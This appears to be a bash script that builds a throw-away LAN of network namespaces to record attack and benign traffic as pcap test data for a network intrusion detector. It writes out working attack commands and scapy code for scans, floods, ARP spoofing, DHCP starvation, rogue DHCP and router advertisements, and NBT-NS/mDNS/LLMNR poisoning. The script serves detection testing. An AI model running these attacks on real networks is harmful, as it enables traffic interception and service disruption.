#!/bin/bash
# stage-detections.sh OUTDIR [SCENARIO...]: stage attacks and ordinary traffic
# with the real tools (nmap, hping3, arpspoof, arp-scan, scapy, dnsmasq, busybox udhcpc, curl,
# thc-ipv6, ndisc6, yersinia, keepalived, mausezahn, wsdd; for the managed network's
# own monitoring monitoring-plugins-basic and -standard, fping, snmp, snmpd, samba, smbclient,
# rsync, openssh-server; for session 25's office shapes gstreamer1.0-tools and
# -plugins-good with gir1.2-gst-rtsp-server-1.0 and python3-gi, kamailio,
# sipsak, tftpd-hpa, tftp-hpa, chrony, freeradius, eapoltest, cups-daemon,
# cups-ipp-utils, tgt, libiscsi-bin, ethtool) on a throw-away LAN of network namespaces and record each
# scenario, as a switch's mirror port shows it, to OUTDIR/SCENARIO.pcap. No
# scenario list: all of them. Needs root. Every namespace it makes is named
# d8<random>-* (STAGE_PREFIX<random>-* if set), holds only 10.88.8.0/24,
# fd88:8::/64 and link-local addresses with no route out (one scenario adds
# a VPN site, 10.99.0.0/24, behind the gateway), and is removed on exit,
# failure included. SNAPLEN cuts the recorded frames (tcpdump -s).
#
# The recordings in traffic/testdata/staged/ marked "stage-detections.sh" in
# their README line came from here; replay one with
#   tend replay --json --gateway 10.88.8.1 OUTDIR/SCENARIO.pcap
set -euo pipefail

out=$(realpath "$1"); shift
mkdir -p "$out"
py=/usr/bin/python3 # scapy lives in the system Python
P=${STAGE_PREFIX:-d8}$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n') # STAGE_PREFIX: names of one's own (d26 for session 26's helper)
NET=10.88.8
ULA=fd88:8 # the lab's IPv6 prefix, fd88:8::/64 (unique local, RFC 4193)
SW=$P-sw
BOX=$P-box
tmp=$(mktemp -d)
chmod 755 "$tmp" # dnsmasq reads its hosts file as nobody
pids=()

cleanup() {
	set +e
	for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null; done
	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do
		ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
		ip netns del "$ns"
	done
	rm -rf "$tmp" "/etc/netns/$P-pc" "/etc/netns/$P-pc2" "/etc/netns/$P-evil"
}
trap cleanup EXIT

# host NAME MAC LAST-OCTET: a namespace on the switch.
host() {
	local ns=$P-$1
	ip netns add "$ns"
	ip -n "$SW" link add "p$1" type veth peer name eth0 netns "$ns" address "$2"
	ip -n "$ns" link set lo up
	ip -n "$ns" addr add "$NET.$3/24" dev eth0
	ip -n "$ns" addr add "$ULA::$3/64" dev eth0 nodad # a link-local address comes by itself
	ip -n "$ns" link set eth0 up
	[ "$3" = 1 ] || ip -n "$ns" route add default via "$NET.1"
	ip -n "$SW" link set "p$1" master br0 up
}

inns() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }
spawn() { local h=$1; shift; ip netns exec "$P-$h" "$@" >/dev/null 2>&1 & pids+=($!); }

# bare_clients NAME N MID OUI...: N client namespaces NAME1..NAMEN on the
# switch with no address and IPv6 off (a DHCP client or a tool gives what
# they send); client i's MAC is OUI:MID:i, the OUIs taken in turn.
bare_clients() {
	local name=$1 n=$2 mid=$3 i ns
	shift 3
	local ouis=("$@")
	for i in $(seq 1 "$n"); do
		ns=$P-$name$i
		ip netns add "$ns"
		ip -n "$SW" link add "$name$i" type veth peer name eth0 netns "$ns" address "${ouis[i % ${#ouis[@]}]}:$mid:$(printf %02x "$i")"
		ip -n "$ns" link set lo up
		ip netns exec "$ns" sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1
		ip -n "$ns" link set eth0 up
		ip -n "$SW" link set "$name$i" master br0 up
	done
}

# open_gate NAME N PID...: once N clients (PIDs) wrote $tmp/NAME-readyI
# (their socket open: dhcpc.py), let them all go ($tmp/NAME-go). It waits
# on the clients, not a time (loaded, 60 imports of scapy take minutes); a
# client that exited first ends the wait, said in the scenario's log.
open_gate() {
	local name=$1 n=$2
	shift 2
	until [ "$(ls "$tmp/$name"-ready* 2>/dev/null | wc -l)" -ge "$n" ]; do
		kill -0 "$@" 2>/dev/null || { echo "$name: a client exited before it was ready" >&2; break; }
		sleep 0.2
	done
	touch "$tmp/$name-go"
}

ip netns add "$SW"
ip netns exec "$SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
ip -n "$SW" link set lo up
ip -n "$SW" link add br0 type bridge mcast_snooping 0 ageing_time 0 # floods every frame: a mirror port
ip -n "$SW" link set br0 up
ip netns add "$BOX"
ip netns exec "$BOX" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
ip -n "$SW" link add pbox type veth peer name eth0 netns "$BOX" address 02:74:65:6e:64:fa
ip -n "$BOX" link set eth0 up
ip -n "$SW" link set pbox master br0 up

host gw 00:1a:a1:00:00:01 1
host pc 3c:52:82:00:00:10 10
host pc2 f0:1f:af:00:00:11 11
host nas 00:11:32:00:00:30 30
host evil b8:27:eb:00:00:66 66
# Quiet hosts to fill a subnet scan: 30 of them at .100-.129.
for i in $(seq 100 129); do host "h$i" "$(printf '00:50:56:00:01:%02x' "$i")" "$i"; done

# The PC asks the gateway for names (ip netns exec mounts this over /etc/resolv.conf).
mkdir -p "/etc/netns/$P-pc"
echo "nameserver $NET.1" >"/etc/netns/$P-pc/resolv.conf"
# The gateway serves DNS and DHCP (dnsmasq); the NAS serves HTTP on 80 and
# 8080 and has 30 more open ports (5000-5029) for multi-port clients.
cat >"$tmp/hosts" <<EOF
$NET.30 nas.lan
$NET.1 gw.lan
EOF
start_gw_dnsmasq() {
	spawn gw dnsmasq -k --no-resolv --no-hosts --addn-hosts="$tmp/hosts" --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw.leases" --address=/example.com/$NET.30
}
start_gw_dnsmasq
cat >"$tmp/serve.py" <<'EOF'
import socket, threading, sys
def serve(port):
    s = socket.socket(socket.AF_INET6); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port)); s.listen(64) # IPv4 and IPv6
    while True:
        c, _ = s.accept()
        def talk(c):
            try:
                c.recv(4096)
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2000\r\n\r\n" + b"x" * 2000)
            finally:
                c.close()
        threading.Thread(target=talk, args=(c,), daemon=True).start()
for p in [80, 8080] + list(range(5000, 5030)):
    threading.Thread(target=serve, args=(p,), daemon=True).start()
threading.Event().wait()
EOF
spawn nas "$py" "$tmp/serve.py"
sleep 2

# record NAME CMD...: the box records while CMD runs, after a few seconds of
# ordinary chatter (pings to the gateway, so ARP shows who owns which address).
record() {
	local name=$1; shift
	echo "== $name: $*" >&2
	# Every scenario starts from empty neighbour caches: a poisoning left by
	# the last one would show the next mid-attack.
	for ns in $(ip netns list | awk '{print $1}' | grep "^$P-"); do ip -n "$ns" neigh flush all 2>/dev/null || true; done
	ip netns exec "$BOX" tcpdump -q -i eth0 ${SNAPLEN:+-s $SNAPLEN} -U -w "$out/$name.pcap" 2>/dev/null & local td=$!
	sleep 1
	for h in pc pc2 nas evil; do
		[[ $h = evil && $name = *silent* ]] || spawn "$h" ping -q -c 3 -i 0.3 "$NET.1"
	done
	sleep 1.5
	"$@" >"$tmp/$name.log" 2>&1 || echo "   ($name: exit $?)" >&2
	sleep 1
	kill -INT "$td"; wait "$td" 2>/dev/null || true
	cp "$tmp/$name.log" "$out/$name.log" 2>/dev/null || true
}

nas=$NET.30
scn_nmap_sS_T4() { inns evil nmap -sS -Pn -n -T4 --top-ports 100 "$nas"; }
scn_nmap_sT() { inns evil nmap -sT -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sU() { inns evil nmap -sU -Pn -n -T5 --max-retries 0 -p 1-60 "$nas"; }
scn_nmap_sA() { inns evil nmap -sA -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sF() { inns evil nmap -sF -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sX() { inns evil nmap -sX -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sN() { inns evil nmap -sN -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sW() { inns evil nmap -sW -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sM() { inns evil nmap -sM -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_T2() { inns evil nmap -sS -Pn -n -T2 -p 1-40 "$nas"; }
scn_nmap_T5_allports() { inns evil nmap -sS -Pn -n -T5 -p- "$nas"; }
scn_nmap_delay1s_few() { inns evil nmap -sS -Pn -n --scan-delay 1s -p 20-35 "$nas"; }
scn_nmap_delay3s() { inns evil nmap -sS -Pn -n --scan-delay 3s -p 1-25 "$nas"; }
scn_nmap_sn_arp() { inns evil nmap -sn -n "$NET.0/24"; }
scn_nmap_sn_icmp() { inns evil nmap -sn -n --send-ip -PE "$NET.96/27"; }
scn_nmap_O() { inns evil nmap -O -Pn -n -p 22,80 "$nas"; }
scn_nmap_sV() { inns evil nmap -sV -Pn -n -p 80,8080 "$nas"; }
scn_nmap_decoys() { inns evil nmap -sS -Pn -n -T4 -D "$NET.77,$NET.78,ME,$NET.79" -p 1-100 "$nas"; }
scn_nmap_top10_subnet() { inns evil nmap -sS -n -T4 --top-ports 10 "$NET.0/24"; }
scn_hping_syn_oneport() { inns evil timeout 3 hping3 -q -S -p 80 -i u1000 "$nas"; }
scn_hping_syn_manyports() { inns evil timeout 3 hping3 -q -S -p ++1 -i u1000 "$nas"; }
scn_hping_syn_randsrc_flood() { inns evil timeout 1 hping3 -q -S -p 80 --rand-source --flood "$nas"; }
scn_hping_udp() { inns evil timeout 3 hping3 -q -2 -p 53 -i u1000 "$nas"; }
scn_hping_udp_randsrc() { inns evil timeout 3 hping3 -q -2 -p 161 --rand-source -i u1000 "$nas"; }
scn_hping_icmp() { inns evil timeout 3 hping3 -q -1 -i u1000 "$nas"; }
scn_hping_icmp_randsrc() { inns evil timeout 3 hping3 -q -1 --rand-source -i u1000 "$nas"; }
scn_arpspoof_oneway() { inns evil timeout 9 arpspoof -i eth0 -t "$NET.10" "$NET.1"; }
scn_arpspoof_twoway() { inns evil timeout 9 arpspoof -i eth0 -t "$NET.10" -r "$NET.1"; }
# arpspoof against a host that is not the gateway: the PC told the NAS is at evil, while the NAS talks.
scn_arpspoof_nas() { spawn nas ping -q -c 30 -i 0.3 "$NET.10"; inns evil timeout 9 arpspoof -i eth0 -t "$NET.10" "$NET.30"; }
scn_arpscan() { inns evil arp-scan -I eth0 --localnet; }

# scapy scripts: $1 is what they send, from evil unless said.
scapy() { local h=$1 body=$2; shift 2; printf 'import sys, time\nfrom scapy.all import *\nconf.verb = 0\nmac = get_if_hwaddr("eth0")\n%s\n' "$body" >"$tmp/s.py"; inns "$h" "$py" "$tmp/s.py" "$@"; }

scn_garp_gateway() {
	# Gratuitous ARP (request and reply forms) claiming the gateway's address, every 2 s.
	scapy evil 'for i in range(5):
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc="'$NET.1'", pdst="'$NET.1'"), iface="eth0")
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst="ff:ff:ff:ff:ff:ff", pdst="'$NET.1'"), iface="eth0")
    time.sleep(2)'
}
scn_garp_gateway_silent() {
	# The same from a poisoner that never ARPs for an address of its own (its
	# neighbour entries are static, it sends nothing else over ARP).
	inns evil ip neigh replace "$NET.1" lladdr 00:1a:a1:00:00:01 nud permanent dev eth0
	scn_garp_gateway
	inns evil ip neigh del "$NET.1" dev eth0
}
scn_arp_flip() {
	# The NAS's address claimed by evil in replies to the PC while the NAS keeps talking.
	spawn nas ping -q -c 40 -i 0.25 "$NET.1"
	scapy evil 'for i in range(8):
    sendp(Ether(src=mac, dst="3c:52:82:00:00:10")/ARP(op=2, hwsrc=mac, psrc="'$NET.30'", hwdst="3c:52:82:00:00:10", pdst="'$NET.10'"), iface="eth0")
    time.sleep(1)'
}
scn_dhcp_starve_forged_src() {
	# yersinia's shape: every DISCOVER from its own random source MAC, chaddr the same.
	scapy evil 'for i in range(120):
    m = str(RandMAC())
    sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
          BOOTP(chaddr=mac2str(m), xid=RandInt())/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0")'
}
scn_dhcp_starve_request() {
	# dhcpig's shape: REQUESTs for every address of the pool, a forged chaddr each, slower (4 a second).
	scapy evil 'for i in range(150, 210):
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
          BOOTP(chaddr=mac2str(RandMAC()), xid=RandInt())/DHCP(options=[("message-type", "request"), ("requested_addr", "'$NET'.%d" % i), ("server_id", "'$NET.1'"), "end"]), iface="eth0")
    time.sleep(0.25)'
	sleep 10 # the gateway's ping checks of the addresses it offers
}
dhcp_discover='sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
      BOOTP(chaddr=mac2str(mac), xid=0x1234)/DHCP(options=[("message-type", "discover"), ("hostname", "pc"), "end"]), iface="eth0")'
scn_rogue_dhcp_same_router() {
	# A rogue server that hands out the real gateway as router but itself as DNS,
	# and answers before the real one (which waits 1 s).
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --dhcp-reply-delay=1 \
		--dhcp-range=$NET.150,$NET.200,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/gw2.leases" --port=0
	spawn evil dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.210,$NET.240,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.66 --dhcp-leasefile="$tmp/evil.leases" --port=0
	sleep 1
	scapy pc "$dhcp_discover"
	sleep 3
	ip netns pids "$P-evil" | xargs -r kill
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}
# Session 38 (det39a): a rogue that keeps the router and hands out a
# resolver at a third address (.67, neither its own nor any the LAN uses),
# heard within the first minute: High, not "a second DHCP service"
# (dhcppair.go dnsInUse). Its control: an old router (h125) whose DHCP was
# left on, handing out the gateway as router and as DNS server, as the
# gateway's own does, and its own domain name: Medium "two DHCP services".
scn_rogue_dhcp_same_router_third_dns() {
	spawn evil dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.210,$NET.240,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.67 --dhcp-leasefile="$tmp/evil3.leases" --port=0
	sleep 1
	scapy pc "$dhcp_discover"
	sleep 2
	scapy pc2 "$dhcp_discover"
	sleep 3
	ip netns pids "$P-evil" | xargs -r kill
}
scn_dhcp_second_service_gateway_dns() {
	spawn h125 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.210,$NET.240,1h --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.1 --dhcp-option=15,office.lan --dhcp-leasefile="$tmp/h125.leases" --port=0
	sleep 1
	scapy pc "$dhcp_discover"
	sleep 2
	scapy pc2 "$dhcp_discover"
	sleep 3
	ip netns pids "$P-h125" | xargs -r kill
}
pkill_gw_dnsmasq() {
	local p
	for p in $(ip netns pids "$P-gw"); do [ "$(cat /proc/$p/comm 2>/dev/null)" = dnsmasq ] && kill "$p"; done
	sleep 0.5
}
scn_rogue_ra_fake_router() {
	# fake_router6's shape: evil announces itself (its own link-local address) as
	# the default router with a prefix, high preference; the gateway advertises too.
	scapy gw 'lla = "fe80::21a:a1ff:fe00:1"
sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=lla, dst="ff02::1")/ICMPv6ND_RA(routerlifetime=1800)/
      ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="2001:db8:1::", prefixlen=64), iface="eth0")'
	scapy evil 'lla = "fe80::ba27:ebff:fe00:66"
for i in range(3):
    sendp(Ether(src=mac, dst="33:33:00:00:00:01")/IPv6(src=lla, dst="ff02::1")/ICMPv6ND_RA(routerlifetime=1800, prf=1)/
          ICMPv6NDOptSrcLLAddr(lladdr=mac)/ICMPv6NDOptPrefixInfo(prefix="2001:db8:66::", prefixlen=64), iface="eth0")
    time.sleep(1)'
}
scn_nbtns_poison() {
	# Responder's NBT-NS answers: three names asked by the PC, each answered as evil.
	scapy evil 'for i, name in enumerate(["FILESRV", "PRINTER2", "INTRANET"]):
    sendp(Ether(dst="3c:52:82:00:00:10")/IP(src="'$NET.66'", dst="'$NET.10'")/UDP(sport=137, dport=137)/
          NBNSHeader(NAME_TRN_ID=100+i, RESPONSE=1, NM_FLAGS="AA+RD", ANCOUNT=1, QDCOUNT=0)/
          NBNSQueryResponse(RR_NAME=name, ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS="'$NET.66'")]), iface="eth0")
    time.sleep(0.3)'
}
scn_mdns_poison() {
	# Responder's mDNS answers: three names (not its own) all pointing at evil.
	scapy evil 'for i, name in enumerate(["nas.local", "printer.local", "fileserver.local"]):
    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.66'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
          DNS(id=0, qr=1, aa=1, qd=None, an=DNSRR(rrname=name, type="A", rdata="'$NET.66'", ttl=120)), iface="eth0")
    time.sleep(0.3)'
}
scn_llmnr_one_name() {
	# One LLMNR answer for one name the host does not own (a short Responder run).
	scapy evil 'sendp(Ether(dst="3c:52:82:00:00:10")/IP(src="'$NET.66'", dst="'$NET.10'")/UDP(sport=5355, dport=50001)/
      LLMNRResponse(id=7, qd=DNSQR(qname="fileserv"), an=DNSRR(rrname="fileserv", rdata="'$NET.66'", ttl=30)), iface="eth0")'
}

# Ordinary traffic: must stay at info or below.
scn_benign_office() {
	spawn pc ping -q -c 20 -i 0.5 "$nas"
	for i in $(seq 1 20); do inns pc curl -s -o /dev/null "http://$nas/" || true; done
	# DNS questions to the gateway, answered (python, the resolver's way).
	inns pc "$py" -c '
import socket
for n in ["nas.lan", "gw.lan", "example.com", "www.example.com", "nas.lan"] * 4:
    try: socket.getaddrinfo(n, 80, socket.AF_INET)
    except Exception: pass'
	# A DHCP client that renews (DISCOVER, REQUEST) with the real server.
	scapy pc2 'x = 0x4242
p = srp1(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
      BOOTP(chaddr=mac2str(mac), xid=x)/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0", timeout=3)
if p:
    yi = p[BOOTP].yiaddr
    for i in range(3):
        sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
              BOOTP(chaddr=mac2str(mac), xid=x+i)/DHCP(options=[("message-type", "request"), ("requested_addr", yi), ("server_id", "'$NET.1'"), "end"]), iface="eth0")
        time.sleep(1)'
}
scn_benign_discovery() {
	# mDNS announcements and answers for the hosts' own names and services, SSDP NOTIFYs and M-SEARCHes.
	scapy nas 'for i in range(3):
    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.30'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="nas.local", type="A", rdata="'$NET.30'", ttl=120)/
              DNSRR(rrname="_smb._tcp.local", type="PTR", rdata="nas._smb._tcp.local", ttl=4500)/
              DNSRR(rrname="_http._tcp.local", type="PTR", rdata="nas._http._tcp.local", ttl=4500)), iface="eth0")
    sendp(Ether(dst="01:00:5e:7f:ff:fa")/IP(src="'$NET.30'", dst="239.255.255.250", ttl=4)/UDP(sport=1900, dport=1900)/
          Raw(b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nLOCATION: http://'$NET.30':8080/desc.xml\r\n\r\n"), iface="eth0")
    time.sleep(1)'
	scapy pc 'for i in range(3):
    sendp(Ether(dst="01:00:5e:7f:ff:fa")/IP(src="'$NET.10'", dst="239.255.255.250", ttl=4)/UDP(sport=50123, dport=1900)/
          Raw(b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"), iface="eth0")
    sendp(Ether(dst="01:00:5e:00:00:fb")/IP(src="'$NET.10'", dst="224.0.0.251", ttl=255)/UDP(sport=5353, dport=5353)/
          DNS(id=0, qr=1, aa=1, an=DNSRR(rrname="pc.local", type="A", rdata="'$NET.10'", ttl=120)/
              DNSRR(rrname="pc.local", type="AAAA", rdata="fe80::3e52:82ff:fe00:10", ttl=120)), iface="eth0")
    time.sleep(1)'
}
scn_benign_browser() {
	# A browser's burst: 60 connections to port 80 and 8080 of one server at once.
	for i in $(seq 1 30); do
		inns pc curl -s -o /dev/null "http://$nas/a$i" & c+=($!)
		inns pc curl -s -o /dev/null "http://$nas:8080/b$i" & c+=($!)
	done
	wait "${c[@]}"
}
scn_benign_multiport() {
	# A backup or passive-FTP client: data connections to 30 open ports of one server within a minute.
	inns pc "$py" -c '
import socket, time
for rnd in range(2):
    for p in range(5000, 5030):
        s = socket.create_connection(("'$nas'", p)); s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        while s.recv(4096): pass
        s.close(); time.sleep(0.1)'
}
scn_benign_ssh_like_refused() {
	# A client that keeps retrying one stopped service (a closed port) and a wrong one.
	for i in $(seq 1 10); do inns pc curl -s -m 1 -o /dev/null "http://$nas:8443/" || true; inns pc curl -s -m 1 -o /dev/null "http://$nas:22/" || true; sleep 0.3; done
}

# IPv4 tools the detectors were never tuned on (session 9, det4).
gwmac=00:1a:a1:00:00:01
# ettercap's text UI reads its keys from stdin: feed it nothing for the run, then
# SIGINT (it re-ARPs the victims with the true addresses on the way out).
ettercap_run() { inns evil timeout -s INT "$1" ettercap -T -q -n 255.255.255.0 -i eth0 "${@:2}" < <(sleep 60); }
scn_ettercap_one() { ettercap_run 12 -M arp:remote "/$NET.10//" "/$NET.1//"; }
scn_ettercap_two() { ettercap_run 12 -M arp:remote "/$NET.10,11//" "/$NET.1//"; }
scn_ettercap_lan() { ettercap_run 15 -M arp:remote /// ///; }
scn_arping_unsolicited_gw() { inns evil arping -q -U -S "$NET.1" -i eth0 -c 5 -w 1 -B || true; }
scn_arping_reply_gw() { inns evil arping -q -A -S "$NET.1" -i eth0 -c 5 -w 1 -B || true; }
scn_packit_reply_gw() {
	# Forged is-at replies to the PC: the gateway's address at evil's MAC, once a second.
	inns evil packit -t ARP -A 2 -i eth0 -x "$NET.1" -X b8:27:eb:00:00:66 -y "$NET.10" -Y 3c:52:82:00:00:10 \
		-e b8:27:eb:00:00:66 -E 3c:52:82:00:00:10 -c 6 -w 1
}
# ys SECONDS ARGS...: yersinia ARGS on evil's eth0 for SECONDS. It stops at the
# end of its standard input ("press any key"), so a pipe that stays open
# keeps it going; it writes yersinia.log where it runs, so it runs in $tmp.
ys() { local s=$1; shift; (cd "$tmp" && sleep $((s + 2)) | inns evil timeout "$s" yersinia "$@" -interface eth0); }
scn_yersinia_dhcp_discover() { ys 3 dhcp -attack 1 || true; }
scn_yersinia_dhcp_rogue() {
	# yersinia's rogue server (attack 2) answers what the PC asks; the real gateway answers too.
	# (Its command line refuses the attack: it needs 9 parameters only the ncurses and GTK interfaces take.)
	ys 8 dhcp -attack 2 >/dev/null 2>&1 & pids+=($!)
	sleep 2
	scapy pc "$dhcp_discover"
	sleep 4
}
scn_rogue_dhcp_own_router() {
	# A second dnsmasq on a workstation that hands out itself as router and DNS.
	spawn evil dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces \
		--dhcp-range=$NET.210,$NET.240,1h --dhcp-option=3,$NET.66 --dhcp-option=6,$NET.66 --dhcp-leasefile="$tmp/evil2.leases" --port=0
	sleep 1
	scapy pc "$dhcp_discover"
	sleep 3
	ip netns pids "$P-evil" | xargs -r kill
}
scn_masscan_host_1000() { inns evil masscan -e eth0 --router-mac $gwmac -p1-1000 --rate 1000 --wait 2 "$nas"; }
scn_masscan_host_fast() { inns evil masscan -e eth0 --router-mac $gwmac -p1-1000 --rate 10000 --wait 2 "$nas"; }
scn_masscan_subnet() { inns evil masscan -e eth0 --router-mac $gwmac -p22,80,443,445,3389 --rate 1000 --wait 2 "$NET.0/24"; }
scn_zmap_subnet() { inns evil zmap -q -i eth0 -G $gwmac -p 80 -b /dev/null -r 1000 -c 2 --max-targets 254 -o /dev/null "$NET.0/24"; }
scn_nmap_idle() { inns evil nmap -Pn -n -sI "$NET.100:80" -p 20-30,80 "$nas" || true; }
# An idle-scan zombie: a host whose IP ID is one global counter, as old
# Windows, printers and embedded stacks have (Linux's per-destination IDs make
# nmap refuse every namespace as a zombie). The kernel of its namespace has no
# IPv4 address; scapy answers ARP for 10.88.8.140 and every TCP segment to it
# as a closed port does, each answer taking the next IP ID.
cat >"$tmp/zombie.py" <<'EOF'
from scapy.all import *
conf.verb = 0
me, mac, ipid = "10.88.8.140", get_if_hwaddr("eth0"), [1000]
def answer(p):
    if ARP in p and p[ARP].op == 1 and p[ARP].pdst == me:
        sendp(Ether(src=mac, dst=p[Ether].src)/ARP(op=2, hwsrc=mac, psrc=me, hwdst=p[ARP].hwsrc, pdst=p[ARP].psrc), iface="eth0")
    elif IP in p and TCP in p and p[IP].dst == me and not p[TCP].flags.R:
        t = p[TCP]
        ipid[0] += 1
        if t.flags.A:
            r = TCP(sport=t.dport, dport=t.sport, flags="R", seq=t.ack)
        else:
            r = TCP(sport=t.dport, dport=t.sport, flags="RA", seq=0, ack=t.seq + 1)
        sendp(Ether(src=mac, dst=p[Ether].src)/IP(src=me, dst=p[IP].src, id=ipid[0])/r, iface="eth0")
sniff(iface="eth0", filter="arp or (tcp and dst host 10.88.8.140)", prn=answer, store=False)
EOF
scn_nmap_idle_zombie() {
	ip netns add "$P-zb"
	ip -n "$SW" link add pzb type veth peer name eth0 netns "$P-zb" address 00:00:48:00:01:40 # an Epson OUI: a printer
	ip -n "$P-zb" link set eth0 up
	ip -n "$SW" link set pzb master br0 up
	spawn zb "$py" "$tmp/zombie.py"
	sleep 3
	inns pc ping -q -c 2 -i 0.3 "$NET.140" || true # the zombie is heard: ARP binds its address to its MAC
	inns evil nmap -Pn -n -sI "$NET.140:80" -F "$nas" || true
	ip netns del "$P-zb"
}
scn_nmap_sO() { inns evil nmap -sO -Pn -n -T4 "$nas"; }
scn_nmap_sY() { inns evil nmap -sY -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_frag() { inns evil nmap -sS -f -Pn -n -T4 -p 1-100 "$nas"; }
# nmap fragments only IPv4 TCP (-f refuses -sY and -6): scapy sends the same
# probes, SYNs and SCTP INITs to ports 1-100 in 8-byte fragments.
scn_sctp_frag_scapy() {
	scapy evil 'for port in range(1, 101):
    for f in fragment(IP(src="'$NET.66'", dst="'$nas'", id=port)/SCTP(sport=40000, dport=port)/SCTPChunkInit(init_tag=port), fragsize=8):
        sendp(Ether(src=mac, dst="00:11:32:00:00:30")/f, iface="eth0")
    time.sleep(0.01)'
}
scn_v6_syn_frag_scapy() {
	scapy evil 'for port in range(1, 101):
    p = IPv6(src="'$ULA::66'", dst="'$ULA::30'")/IPv6ExtHdrFragment(id=port)/TCP(sport=40000, dport=port, flags="S")
    for f in fragment6(p, 56):
        sendp(Ether(src=mac, dst="00:11:32:00:00:30")/f, iface="eth0")
    time.sleep(0.01)'
}
scn_v6_sctp_frag_scapy() {
	scapy evil 'for port in range(1, 101):
    p = IPv6(src="'$ULA::66'", dst="'$ULA::30'")/IPv6ExtHdrFragment(id=port)/SCTP(sport=40000, dport=port)/SCTPChunkInit(init_tag=port)
    for f in fragment6(p, 56):
        sendp(Ether(src=mac, dst="00:11:32:00:00:30")/f, iface="eth0")
    time.sleep(0.01)'
}
scn_nmap_badsum() { inns evil nmap -sS --badsum -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_datalen() { inns evil nmap -sS --data-length 40 -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_T1_few() { inns evil nmap -sS -T1 -Pn -n -p 22,80,443 "$nas"; }
scn_nmap_top100_two() {
	inns pc2 nmap -sS -n -T4 --top-ports 100 "$NET.0/24" >/dev/null & local a=$!
	inns evil nmap -sS -n -T4 --top-ports 100 "$NET.0/24"
	wait $a
}
scn_mz_syn() { inns evil timeout 2 mausezahn eth0 -B "$nas" -t tcp "flags=syn,dp=80" -c 0 -d 200; }
scn_mz_syn_randsrc() { inns evil timeout 2 mausezahn eth0 -A rand -B "$nas" -t tcp "flags=syn,dp=80" -c 0 -d 200; }
# UDP floods of one destination port at full speed: hping3 (its source port
# goes up by one a packet) and with -k (one flow, as mausezahn sends).
scn_hping_udp_flood() { inns evil timeout 2 hping3 -q -2 -p 5004 --flood "$nas" || true; }
scn_hping_udp_flood_oneflow() { inns evil timeout 2 hping3 -q -2 -s 5004 -k -p 5004 --flood "$nas" || true; }
scn_mz_udp() { inns evil timeout 2 mausezahn eth0 -B "$nas" -t udp "dp=53" -c 0 -d 200; }
scn_mz_icmp() { inns evil timeout 2 mausezahn eth0 -B "$nas" -t icmp "type=8" -c 0 -d 200; }
